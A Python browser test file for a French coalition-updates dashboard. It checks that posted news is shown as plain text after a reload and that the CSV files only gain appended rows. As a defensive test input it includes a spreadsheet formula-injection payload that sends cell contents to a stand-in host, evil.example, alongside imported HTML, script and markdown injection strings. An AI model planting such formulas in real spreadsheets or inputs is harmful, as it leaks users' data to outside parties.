"""A coalition lead posts the month's news from the dashboard, on a CSV copy of the sample
with updates on and no login (a name is asked): the news are on the sheet after a reload,
shown as typed (HTML, script, markdown and formulas never run), and the CSV file's earlier
lines are untouched, byte for byte."""

from __future__ import annotations

import csv

import pytest

from tests.browser.conftest import (
    IMG,
    LOCAL_UPDATES,
    MD_LINK,
    SCRIPT,
    copy_sample,
    find_injections,
)

pytestmark = pytest.mark.browser

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"clic")'
NEWS = f"Le diagnostic est publié. {IMG} {SCRIPT} {MD_LINK} **pas gras** {FORMULA}"
URL = "/coalition?coalition=envdata"


@pytest.fixture(scope="module")
def workbook(tmp_path_factory):
    return copy_sample(tmp_path_factory.mktemp("lead-copy"))


@pytest.fixture(scope="module")
def updates_server(servers, workbook):
    return servers.start("updates", workbook, secrets=LOCAL_UPDATES)


def test_a_lead_posts_news_reloads_and_sees_them_as_text(updates_server, workbook, browse):
    files = {path.name: path.read_bytes() for path in workbook.glob("*.csv")}
    tab = browse(updates_server)
    tab.open(URL)
    form = tab.page.locator(".st-key-update_form, [data-testid='stForm']").first
    form.scroll_into_view_if_needed()
    tab.page.locator(".st-key-update_name input").fill("Camille")
    tab.page.locator(".st-key-update_news textarea").fill(NEWS)
    tab.page.locator(".st-key-update_next_step textarea").fill("Atelier de juin à Rennes")
    tab.screenshot("update-form")
    submit = tab.page.get_by_role("button", name="Enregistrer la mise à jour")
    tab.act(submit.click)
    confirmation = tab.page.locator("[data-testid='stAlertContentSuccess']").first
    assert "Mise à jour enregistrée" in confirmation.inner_text()
    assert find_injections(tab.page) == []
    tab.assert_clean(updates_server)
    # The form is empty again, ready for another update; the name stays.
    assert tab.page.locator(".st-key-update_news textarea").input_value() == ""
    assert tab.page.locator(".st-key-update_name input").input_value() == "Camille"
    tab.screenshot("update-confirmation")

    # A new session, as after a reload: the news come from the file, shown as typed.
    again = browse(updates_server)
    again.open(URL)
    text = again.main_text().replace("\u2060", "")
    assert NEWS in text
    assert "Atelier de juin à Rennes" in text  # the posted next step replaces the sheet's
    assert find_injections(again.page) == []
    assert again.page.locator("[data-testid='stMain'] strong", has_text="pas gras").count() == 0
    again.assert_clean(updates_server)
    again.screenshot("update-after-reload")

    # Only updates.csv changed, and only by lines added after its own.
    for name, before in files.items():
        after = (workbook / name).read_bytes()
        if name != "updates.csv":
            assert after == before, name
            continue
        old, new = before.splitlines(keepends=True), after.splitlines(keepends=True)
        assert new[0].startswith(old[0].rstrip(b"\r\n"))  # audit headers added at the end
        assert new[1 : len(old)] == old[1:]
        (row,) = csv.reader([b"".join(new[len(old) :]).decode("utf-8")])
        assert NEWS in row and "Camille" in row


def test_my_coalitions_lists_what_is_missing_before_the_next_reset_day(updates_server, browse):
    tab = browse(updates_server)
    tab.open("/my_coalitions")
    tab.screenshot("my-coalitions")
    text = tab.main_text()
    # Without a login every coalition may be updated: all twenty are listed.
    hrefs = tab.page.eval_on_selector_all(
        "[data-testid='stMain'] a[href*='coalition=']", "links => links.map(a => a.href)"
    )
    assert len(set(hrefs)) == 20
    # Reset Day 15 on 15 June comes next; the news since Reset Day 14 (18 May) count.
    assert "Prochain Reset Day" in text and "15 juin 2021" in text
    assert "Pas de nouvelles depuis le Reset Day du 18 mai 2021" in text
    assert "Pas de prochaine étape" in text  # climat-num, communs...
    tab.assert_clean(updates_server)
    tab.open("/my_coalitions?lang=en")
    assert "No news since the Reset Day of" in tab.main_text()
    tab.assert_clean(updates_server)
